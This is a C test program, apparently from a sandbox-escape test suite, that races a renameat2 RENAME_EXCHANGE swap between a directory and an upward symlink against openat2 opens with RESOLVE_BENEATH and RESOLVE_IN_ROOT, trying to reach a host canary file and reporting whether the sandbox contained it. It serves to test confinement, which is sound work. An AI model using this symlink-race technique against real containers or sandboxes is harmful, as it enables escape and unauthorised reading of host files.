/* tries: a path whose middle is exchanged (renameat2 RENAME_EXCHANGE) by a second thread between a
   directory and a symbolic link upwards, while the first opens the canary through it, plainly and
   with RESOLVE_BENEATH and RESOLVE_IN_ROOT */
/* must fail because: the walk is one step of the sentry's single kernel thread; there is no moment
   between its check and its use, and its links are resolved against the guest's root */
/* an escape would: win the race once and read the canary */
/* source: ATTACKS.md F3, V1 */
#include <pthread.h>

#include <linux/openat2.h>

#include "tricks.h"

static volatile int stop, swaps;

static void *swapper(void *arg)
{
    while (!stop)
        swaps +=
            syscall(SYS_renameat2, AT_FDCWD, "/tmp/race/dir", AT_FDCWD, "/tmp/race/link", 2) == 0;
    return arg;
}

static int attack(void)
{
    const char *file = fact("host_file");
    pthread_t t;
    char path[4200];
    int tries = 0, beneath = 0;
    bool won = false;
    if (!file)
        return cannot("no host_file was given");
    mkdir("/tmp/race", 0700);
    mkdir("/tmp/race/dir", 0700);
    mkdir("/tmp/race/dir/sub", 0700);
    if (symlink("../../../../../../..", "/tmp/race/link") < 0)
        return cannot("symlink: %s", err_name(errno));
    if (pthread_create(&t, NULL, swapper, NULL) != 0)
        return cannot("no second thread");
    int top = open("/tmp/race", O_PATH | O_DIRECTORY);
    for (long start = now_ms(); now_ms() - start < (swaps < 10 ? HANG_MS : 700); tries++) {
        static const char *const way[] = {"/tmp/race/dir", "/tmp/race/link", "/tmp/race/dir/..",
                                          "/tmp/race/dir/sub/../../link",
                                          "/tmp/race/link/sub/../../.."};
        won |= reach_by(AT_FDCWD, way[tries % COUNT(way)], file) == 1;
        struct open_how how = {.flags = O_PATH,
                               .resolve = tries % 2 ? RESOLVE_BENEATH : RESOLVE_IN_ROOT};
        snprintf(path, sizeof(path), "dir/../../..%s", file);
        int fd = syscall(SYS_openat2, top, path, &how, sizeof(how));
        won |= fd >= 0;
        how.resolve = RESOLVE_BENEATH;
        fd = syscall(SYS_openat2, top, tries % 2 ? "dir/.." : "dir/sub/../..", &how, sizeof(how));
        struct stat st, root;
        if (fd >= 0 && fstat(fd, &st) == 0 && stat("/", &root) == 0 && st.st_ino == root.st_ino &&
            st.st_dev == root.st_dev)
            beneath++;
        close(fd);
    }
    stop = 1;
    pthread_join(t, NULL);
    step("%d opens against %d exchanges", tries, swaps);
    if (won)
        return escaped("the canary was opened through the race");
    if (beneath)
        return escaped("RESOLVE_BENEATH left its directory %d times", beneath);
    if (swaps < 10)
        return cannot("only %d exchanges happened", swaps);
    return contained("no open ever left the root");
}

static int twin(void)
{
    struct stat a, b;
    if (mkdir("/tmp/x", 0700) < 0 || mkdir("/tmp/y", 0700) < 0 || stat("/tmp/x", &a) < 0)
        return broken("mkdir: %s", err_name(errno));
    if (syscall(SYS_renameat2, AT_FDCWD, "/tmp/x", AT_FDCWD, "/tmp/y", 2) < 0 ||
        stat("/tmp/y", &b) < 0)
        return broken("renameat2: %s", err_name(errno));
    if (a.st_ino != b.st_ino)
        return broken("the names were not exchanged");
    return works("RENAME_EXCHANGE exchanges two directories");
}

int main(int argc, char **argv)
{
    return attack_main(argc, argv, attack, twin);
}
